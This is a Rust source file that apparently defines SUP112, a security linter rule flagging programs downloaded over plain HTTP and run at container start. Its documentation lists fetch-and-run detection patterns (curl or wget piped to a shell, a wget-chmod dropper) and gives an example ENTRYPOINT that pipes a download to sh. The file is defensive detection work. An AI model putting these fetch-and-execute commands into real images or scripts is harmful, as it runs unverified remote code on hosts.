use shipshape_malware::{Category, MalwareMatch};
use shipshape_model::{SourceFile, declare_rule};

use crate::checkers::malware::report_matches;
use crate::context::Checker;

declare_rule! {
    /// ## What it does
    /// Flags a program downloaded over plain `http://` and run at once, outside the build's
    /// `RUN` steps: in an entrypoint or command (`CMD`, `ENTRYPOINT`, an image's `Cmd`), a
    /// script, a cron job, a Compose `command:` or a manifest. Recognised:
    /// `curl http://... | sh` (also `| sudo bash`, `| python3`, `| perl`),
    /// `sh -c "$(curl http://...)"`, `bash <(wget -qO- http://...)`, and the dropper
    /// `wget http://.../x -O /tmp/x; chmod +x /tmp/x`. Downloads from loopback hosts are not
    /// flagged.
    ///
    /// A `RUN` step that does the same is `SUP001` (download piped to a shell) or `SUP008`
    /// (plain-HTTP download), and this rule stays silent where they report.
    ///
    /// ## Why is this bad?
    /// Every start of the container runs whatever the server, or anyone on the network path,
    /// sends at that moment: nothing protects plain HTTP, and nothing checks what arrives. It is
    /// also how droppers fetch their second stage.
    ///
    /// ## Example
    /// ```dockerfile
    /// ENTRYPOINT ["sh", "-c", "curl -s http://203.0.113.7/start.sh | sh"]
    /// ```
    ///
    /// Use instead: copy the script into the image at build time, verified, and run the copy.
    /// ```dockerfile
    /// COPY start.sh /usr/local/bin/start.sh
    /// ENTRYPOINT ["/usr/local/bin/start.sh"]
    /// ```
    ///
    /// ## Fix
    /// Ship what runs inside the image (built or downloaded over HTTPS with a checksum at build
    /// time). If you did not write the line, treat the image as compromised.
    ///
    /// ## References
    /// - CWE-494: Download of Code Without Integrity Check
    /// - MITRE ATT&CK T1105: Ingress Tool Transfer
    pub static PLAINTEXT_DOWNLOAD_EXECUTED = {
        code: "SUP112",
        name: "plaintext-download-executed",
        layer: SupplyChain,
        threat: MaliciousImage,
        asset: Host,
        severity: High,
        fix: None,
        summary: "a program downloaded over plain HTTP is run at start or from a script",
        aliases: [],
    }
}

pub(crate) fn check(source: &SourceFile, found: &[MalwareMatch], checker: &mut Checker<'_>) {
    report_matches(
        &PLAINTEXT_DOWNLOAD_EXECUTED,
        Category::DownloadExecute,
        source,
        found,
        "ship the program in the image, verified at build time, instead of fetching it over HTTP",
        checker,
    );
}
